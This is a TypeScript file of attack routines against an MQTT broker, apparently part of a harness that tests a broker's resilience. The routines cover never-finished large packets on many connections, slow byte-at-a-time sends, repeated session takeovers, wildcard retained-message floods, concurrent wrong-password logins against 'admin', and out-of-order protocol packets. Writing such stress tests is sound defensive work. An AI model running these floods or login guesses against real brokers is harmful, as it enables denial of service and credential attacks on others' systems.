import {
  type AttackCounts,
  type AttackTarget,
  connectBytes,
  openRaw,
  openSession,
  packetBytes,
  pause,
  publishBytes,
  type RawConnection,
  subscribeBytes,
  VERSIONS,
  writeAll,
} from './mqtt-attack-socket.ts';

/** Large packets that never end, on many connections at once: each holds what has come of it. */
export async function attackUnfinishedPackets(
  target: AttackTarget & { readonly connections?: number },
): Promise<AttackCounts> {
  const counts = { connections: 0, bytes: 0, closedByBroker: 0 };
  const held: RawConnection[] = [];
  for (let index = 0; index < (target.connections ?? 80); index++) {
    const session = await openSession(target, connectBytes(`unfinished-${index}`, index % 2 === 0 ? 4 : 5));
    if (session === undefined) continue;
    const whole = publishBytes('flood/unfinished', Buffer.alloc(240_000, index), index % 2 === 0 ? 4 : 5);
    await writeAll(session, whole.subarray(0, -1));
    counts.connections += 1;
    counts.bytes += whole.length - 1;
    held.push(session);
  }
  await pause(500);
  for (const session of held) {
    if (session.isClosed) counts.closedByBroker += 1;
    session.socket.destroy();
  }
  return counts;
}

/** One byte at a time: a CONNECT that takes too long, and a message in thousands of pieces. */
export async function attackDrip(target: AttackTarget): Promise<AttackCounts> {
  const counts = { connections: 0, bytes: 0 };
  const drip = async (connection: RawConnection | undefined, bytes: Buffer) => {
    if (connection === undefined) return;
    counts.connections += 1;
    for (const byte of bytes) {
      if (connection.isClosed) break;
      connection.socket.write(Buffer.from([byte]));
      counts.bytes += 1;
      await new Promise((resolve) => setImmediate(resolve));
    }
    connection.socket.destroy();
  };
  const lanes = Array.from({ length: 20 }, async (_, index) => {
    const message = publishBytes('flood/drip', Buffer.alloc(3000, index), 4);
    if (index % 2 === 0) await drip(await openRaw(target), connectBytes(`drip-${'x'.repeat(90)}`, 4));
    else await drip(await openSession(target, connectBytes(`drip-${index}`, 4)), message);
  });
  await Promise.all(lanes);
  return counts;
}

/** The same few client ids over and over, with sessions that are kept and dropped and kept. */
export async function attackTakeOvers(
  target: AttackTarget & { readonly rounds?: number },
): Promise<AttackCounts> {
  const counts = { connections: 0, accepted: 0 };
  const lane = async (index: number) => {
    for (let round = 0; round < (target.rounds ?? 60); round++) {
      const version = VERSIONS[round % 2] ?? 4;
      const keep = round % 3 === 0;
      const will = { topic: 'flood/will', payload: Buffer.from('x'), qos: 1 as const, retain: false };
      const more =
        version === 5
          ? { clean: !keep, will, properties: { sessionExpiryInterval: keep ? 30 : 0 } }
          : { clean: !keep, will };
      counts.connections += 1;
      const session = await openSession(target, connectBytes(`same-${round % 5}`, version, more));
      if (session === undefined) continue;
      counts.accepted += 1;
      session.socket.write(subscribeBytes([`flood/will`, `flood/${index}/#`], version, 1));
      if (round % 4 === 0) await session.waitFor(session.received().length + 5, 50);
      session.socket.destroy();
    }
  };
  await Promise.all(Array.from({ length: 8 }, (_, index) => lane(index)));
  return counts;
}

/** Asks for all retained messages again and again, and leaves before they come. */
export async function attackRetainedReplay(
  target: AttackTarget & { readonly rounds?: number },
): Promise<AttackCounts> {
  const counts = { subscriptions: 0, bytesRead: 0 };
  const filters = ['#', '+/#', '+/+/#', '+/+/+', 'flood/#', 'nothing/+/here'];
  const lane = async (index: number) => {
    for (let round = 0; round < (target.rounds ?? 12); round++) {
      const version = VERSIONS[round % 2] ?? 4;
      const session = await openSession(target, connectBytes(`replay-${index}`, version));
      if (session === undefined) continue;
      for (let time = 0; time < 5; time++) await writeAll(session, subscribeBytes(filters, version, 1));
      counts.subscriptions += 5 * filters.length;
      await pause(round % 2 === 0 ? 0 : 20);
      counts.bytesRead += session.socket.bytesRead;
      session.socket.destroy();
    }
  };
  await Promise.all(Array.from({ length: 4 }, (_, index) => lane(index)));
  return counts;
}

/** Wrong passwords, many at once. */
export async function attackLogins(
  target: AttackTarget & { readonly logins?: number; readonly username?: string },
): Promise<AttackCounts> {
  const counts = { tried: 0, accepted: 0 };
  const lane = async (index: number) => {
    for (let round = 0; round < (target.logins ?? 80) / 16; round++) {
      const version = VERSIONS[round % 2] ?? 4;
      const login = {
        username: target.username ?? 'admin',
        password: Buffer.from(`${target.seed}-${round}`),
      };
      counts.tried += 1;
      const session = await openSession(target, connectBytes(`login-${index}-${round}`, version, login));
      if (session !== undefined) counts.accepted += 1;
      session?.socket.destroy();
    }
  };
  await Promise.all(Array.from({ length: 16 }, (_, index) => lane(index)));
  return counts;
}

/** Packets in an order the protocol forbids: answers to nothing, a second CONNECT, server packets, early goodbyes. */
export async function attackOutOfOrder(target: AttackTarget): Promise<AttackCounts> {
  const counts = { sent: 0, closedByBroker: 0 };
  for (const version of VERSIONS) {
    const strange = [
      packetBytes({ cmd: 'puback', messageId: 9 }, version),
      packetBytes({ cmd: 'pubrec', messageId: 9 }, version),
      packetBytes({ cmd: 'pubrel', messageId: 9 }, version),
      packetBytes({ cmd: 'pubcomp', messageId: 9 }, version),
      connectBytes('second', version),
      packetBytes({ cmd: 'connack', returnCode: 0, reasonCode: 0, sessionPresent: false }, version),
      packetBytes({ cmd: 'pingresp' }, version),
      Buffer.concat([packetBytes({ cmd: 'disconnect' }, version), publishBytes('flood/late', 'x', version)]),
    ];
    for (const keep of [true, false]) {
      for (const bytes of strange) {
        counts.sent += 1;
        const session = await openSession(target, connectBytes('order', version, { clean: !keep }));
        session?.socket.write(bytes);
        await Promise.race([session?.closed, pause(150)]);
        if (session?.isClosed !== false) counts.closedByBroker += 1;
        session?.socket.destroy();
      }
    }
  }
  return counts;
}
